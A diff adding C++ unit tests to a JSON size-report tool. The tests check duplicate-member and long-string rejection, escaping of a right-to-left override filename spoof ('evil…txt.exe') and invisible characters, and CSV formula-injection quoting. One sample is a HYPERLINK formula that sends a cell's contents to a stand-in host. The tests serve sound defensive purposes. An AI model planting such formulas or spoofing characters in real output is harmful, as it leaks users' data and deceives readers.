@@ -292,6 +292,20 @@ TEST(ReadDocument, SaysWhatIsWrong) {
       {root(2, "", leaf("f", 1) + "," + leaf("f", 1)), "symbol \"f\" is twice in the root"},
       {root(2, group("a", 2, group("b", 1, "", "") + "," + group("b", 1, "", ""), ""), ""),
        "group \"b\" is twice in group \"a\""},
+      // A member twice in any object: JSON.parse would keep the last, so the page would differ.
+      {"{'total':1,'total':2,'children':{},'leaves':{}}",
+       "the member \"total\" is twice in the root"},
+      {"{'total':1,'children':{},'children':{'a':{'total':1,'children':{},'leaves':{}}},"
+       "'leaves':{}}",
+       "the member \"children\" is twice in the root"},
+      {root(1, group("a", 1, "", "'x':{'size':1,'size':2,'address':2,'mangledName':'x'}"), ""),
+       "the member \"size\" is twice in symbol \"x\" in group \"a\""},
+      {root(1, "", "'x':{'size':1,'address':2,'mangledName':'x','demangledName':'a',"
+                   "'demangledName':'b'}"),
+       "the member \"demangledName\" is twice in symbol \"x\" in the root"},
+      {"{'total':0,'children':{},'leaves':{},'v':null,'v':[]}", "the member \"v\" is twice in the root"},
+      {"{'total':0,'children':{},'leaves':{},'meta':[{'a':1,'b':{},'a':2}]}",
+       "the member \"a\" is twice in one object"},
   };
   for (Case& c : cases) {
     SCOPED_TRACE(c.json);
@@ -303,6 +317,20 @@ TEST(ReadDocument, SaysWhatIsWrong) {
                    "},'extra':null}");
   ASSERT_EQ(d.leaves.size(), 1u);
   EXPECT_EQ(d.leaves[0].size, 5u);
+}
+
+TEST(ReadDocument, RefusesAStringLongerThanANameMayBeBeforeParsingIt) {
+  std::string name(kMaxDocumentString, 'n');
+  std::string json = "{\"total\":1,\"children\":{},\"leaves\":{\"x\":{\"size\":1,"
+                     "\"address\":2,\"mangledName\":\"" + name + "\"}}}";
+  EXPECT_EQ(readDocument(json).leaves.at(0).mangledName.size(), kMaxDocumentString);
+  size_t at = json.find(name) - 1;
+  json.insert(at + 1, "\\\"");  // an escaped quote does not end it
+  expectThrowsWithMessage<std::runtime_error>(
+      [&] { (void)readDocument(json, 15); },
+      "the string at byte " + std::to_string(at + 15) + " is " +
+          std::to_string(kMaxDocumentString + 2) +
+          " bytes long, more than the 16 MiB that a name may take");
 }
 
 TEST(LooksLikeDocument, TellsDocumentsFromMaps) {
@@ -358,6 +386,11 @@ TEST(ReportText, EscapesWhatCouldSteerATerminal) {
        "2J",
        "c1\\u{009B}2J"},
       {"ls\xE2\x80\xA8ps\xE2\x80\xA9", "ls\\u{2028}ps\\u{2029}"},
+      // Text that shows as other text: a right-to-left override, isolates, invisible marks.
+      {"evil\xE2\x80\xAEtxt.exe", "evil\\u{202E}txt.exe"},
+      {"a\xE2\x81\xA6" "b\xE2\x81\xA9", "a\\u{2066}b\\u{2069}"},
+      {"zero\xE2\x80\x8Bwidth\xEF\xBB\xBF\xD8\x9C", "zero\\u{200B}width\\u{FEFF}\\u{061C}"},
+      {"\xE2\x80\x8E\xE2\x80\x8F\xE2\x81\xA0", "\\u{200E}\\u{200F}\\u{2060}"},
       {"bad\xFF\xC0\xAF", "bad\\xFF\\xC0\\xAF"},
       {"caf\xC3\xA9 \xE2\x80\xBA \xF0\x9F\x98\x80", "caf\xC3\xA9 \xE2\x80\xBA \xF0\x9F\x98\x80"},
   };
@@ -404,6 +437,22 @@ TEST(Csv, QuotesFieldsAsRfc4180Says) {
   for (const Case& c : cases) {
     SCOPED_TRACE(c.field);
     EXPECT_EQ(report::csvField(c.field), c.written);
+  }
+  // Text that a spreadsheet would evaluate stays text; anything else is left as it is.
+  const Case textCells[] = {
+      {"=HYPERLINK(\"http://x\"&A2,\"Open\")", "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"Open\"\")\""},
+      {"+1", "'+1"},
+      {"-1+2", "'-1+2"},
+      {"@SUM(A1)", "'@SUM(A1)"},
+      {"\t=1", "'\t=1"},
+      {"\r=1", "\"'\r=1\""},
+      {"a=1", "a=1"},
+      {" =1", " =1"},
+      {"", ""},
+  };
+  for (const Case& c : textCells) {
+    SCOPED_TRACE(c.field);
+    EXPECT_EQ(report::csvTextField(c.field), c.written);
   }
   Document d =
       doc(root(30, group("a,b", 30, group("c", 30, "", leaf("x\\u0022y", 30, "_Dx")), ""), ""));
